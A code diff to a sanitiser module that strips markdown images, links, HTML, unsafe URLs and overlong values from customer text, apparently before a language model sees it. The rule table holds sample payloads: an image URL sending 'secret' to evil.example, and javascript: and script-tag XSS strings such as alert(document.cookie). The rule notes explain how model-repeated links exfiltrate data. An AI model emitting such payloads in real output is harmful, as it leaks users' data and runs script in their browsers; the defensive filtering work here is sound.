@@ -43,7 +43,7 @@ class Scope(StrEnum):
 
     EVERY = "every string"
     CUSTOMER = "customer text"
-    URL = "URL values"
+    URL = "URL fields"
 
 
 @dataclass(frozen=True, slots=True)
@@ -119,19 +119,20 @@ RULES: tuple[Rule, ...] = (
          ("\u2764\ufe0f\ufe01\U000e0101", "\u2764\ufe0f")),
     Rule("lone surrogates", Scope.EVERY, "UTF-16 halves without their pair, replaced by U+FFFD",
          "not text: they cannot be encoded, and would break the whole result", ("Ada\ud800", "Ada\ufffd")),
-    Rule("markdown images", Scope.CUSTOMER, "![alt](url) and ![alt][ref], keeping the alt text",
+    Rule("markdown images", Scope.CUSTOMER, "`![alt](url)` and `![alt][ref]`, keeping the alt text",
          "a host that renders the answer fetches the image: its URL can carry data out, with no click",
          ("![logo](https://evil.example/?q=secret)", "logo")),
-    Rule("markdown links", Scope.CUSTOMER, "[text](url), [text][ref], <scheme:...> and [ref]: url, keeping the "
-         "visible text", "a link the model repeats can carry data out or run javascript:",
+    Rule("markdown links", Scope.CUSTOMER, "`[text](url)`, `[text][ref]`, `<scheme:...>` and `[ref]: url`, keeping "
+         "the visible text", "a link the model repeats can carry data out or run `javascript:`",
          ("[click](javascript:alert(1))", "click")),
-    Rule("HTML", Scope.CUSTOMER, "tags, comments and the content of script, style and template elements, keeping "
-         "the visible text", "markup a host or a view might render, and text hidden in comments",
+    Rule("HTML", Scope.CUSTOMER, "tags, comments and the content of `script`, `style` and `template` elements, "
+         "keeping the visible text", "markup a host or a view might render, and text hidden in comments",
          ("<b>Ada</b><script>alert(1)</script><!-- hidden -->", "Ada")),
-    Rule("URL values", Scope.CUSTOMER, "a value that is one URL, unless it is an absolute http(s) URL without "
-         "credentials", "javascript:, data: and file: URLs act when rendered; credentials do not belong in a result",
+    Rule("a value that is a URL", Scope.CUSTOMER, "the whole value, unless it is an absolute http(s) URL without "
+         "credentials", "`javascript:`, `data:` and `file:` URLs act when rendered; credentials do not belong in a "
+         "result",
          ("javascript:alert(document.cookie)", None)),
-    Rule("length", Scope.CUSTOMER, f"everything after CDP_MAX_FIELD_CHARS characters ({DEFAULT_MAX_FIELD_CHARS} by "
+    Rule("length", Scope.CUSTOMER, f"everything after `CDP_MAX_FIELD_CHARS` characters ({DEFAULT_MAX_FIELD_CHARS} by "
          "default), with a visible mark", "a huge value drowns the conversation and the instructions around it",
          ("x" * (DEFAULT_MAX_FIELD_CHARS + 1), "x" * DEFAULT_MAX_FIELD_CHARS + "… [cut: 501 characters in all]")),
     Rule("URL fields", Scope.URL, "anything but an absolute http(s) URL without credentials",
@@ -205,7 +206,8 @@ def clean_customer_text(text: str, cap: int = DEFAULT_MAX_FIELD_CHARS) -> str | 
         if marked != cleaned:
             cleaned = _SPACES.sub(" ", marked).strip()
     if not cleaned and text:
-        return LeftOut("nothing but hidden characters or markup")
+        read = f" in its first {len(work):,} characters" if len(work) < total else ""
+        return LeftOut(f"nothing but hidden characters or markup{read}")
     if len(cleaned) > cap or len(work) < total:
         cleaned = f"{cleaned[:cap]}… [cut: {total:,} characters in all]"
     return cleaned
